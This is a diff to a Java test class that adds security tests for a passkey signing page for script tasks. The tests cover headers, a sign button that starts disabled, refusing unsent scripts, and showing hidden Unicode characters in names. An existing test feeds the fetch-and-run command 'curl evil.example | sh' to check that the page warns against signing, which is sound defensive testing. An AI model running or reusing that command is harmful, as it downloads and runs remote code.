@@ -89,6 +89,9 @@ class SigningPageTest {
         assertThat(csp).contains("form-action " + Fixture.STEWARD, "frame-ancestors 'none'", "script-src 'self'").doesNotContain("unsafe");
         String html = r.body();
         assertThat(html).contains("on 3 devices", "Clear &lt;b&gt;temp&lt;/b&gt;").doesNotContain("<b>temp");
+        assertThat(r.headers().firstValue("Cross-Origin-Opener-Policy")).hasValue("same-origin");
+        // The button arms only after the page has been in view a moment (sign.js): it comes disabled.
+        assertThat(html).contains("id=\"sign-with-passkey\" disabled");
         for (UUID device : task.deviceIds()) {
             assertThat(html).contains(device.toString());
         }
@@ -114,6 +117,35 @@ class SigningPageTest {
         HttpResponse<String> r = post(form(task, BODY + "curl evil.example | sh\n", Fixture.STEWARD + "/tasks"));
         assertThat(r.statusCode()).isEqualTo(200);
         assertThat(r.body()).contains("id=\"script-problem\"", "Do not sign").doesNotContain("id=\"sign\"").doesNotContain("curl evil");
+    }
+
+    @Test
+    void aTaskWhoseScriptWasNotSentCannotBeSigned() throws Exception {
+        // Otherwise a server could show a harmless script on its own page and have the hash of another one signed here.
+        TaskSpec task = task(f.trusted("Tina Tech", false), "Clear temp", 1);
+        HttpResponse<String> r = post(form(task, null, Fixture.STEWARD + "/tasks"));
+        assertThat(r.statusCode()).isEqualTo(200);
+        assertThat(r.body()).contains("did not send the script").doesNotContain("id=\"sign\"");
+    }
+
+    @Test
+    void namesFromTheServerStayOutOfTheSummaryAndHiddenCharactersShow() throws Exception {
+        // A right-to-left override or a zero-width space in a name could make it read as something else.
+        TaskSpec task = task(f.trusted("Tina Tech", false), "Disk report\u202E\u200Bon 1 device", 2);
+        String html = post(form(task, BODY, Fixture.STEWARD + "/tasks")).body();
+        String summary = html.substring(html.indexOf("id=\"summary\""), html.indexOf("</p>", html.indexOf("id=\"summary\"")));
+        assertThat(summary).contains("on 2 devices").doesNotContain("Disk report");
+        assertThat(html).contains("id=\"hidden-characters\"", "Disk report\u27e8U+202E\u27e9\u27e8U+200B\u27e9on 1 device")
+                .doesNotContain("\u202E");
+    }
+
+    @Test
+    void aStatementMissingTheFieldsOfItsKindIsRefusedNotCrashedOn() throws Exception {
+        Map<String, String> form = form(task(f.trusted("Tina Tech", false), "x", 1), BODY, Fixture.STEWARD + "/tasks");
+        form.put("statement", B64URL.encodeToString(CanonicalText.begin("steward-standard-change-v1").add("id", "x").bytes()));
+        HttpResponse<String> r = post(form);
+        assertThat(r.statusCode()).isEqualTo(400);
+        assertThat(r.body()).contains("lacks fields");
     }
 
     @Test
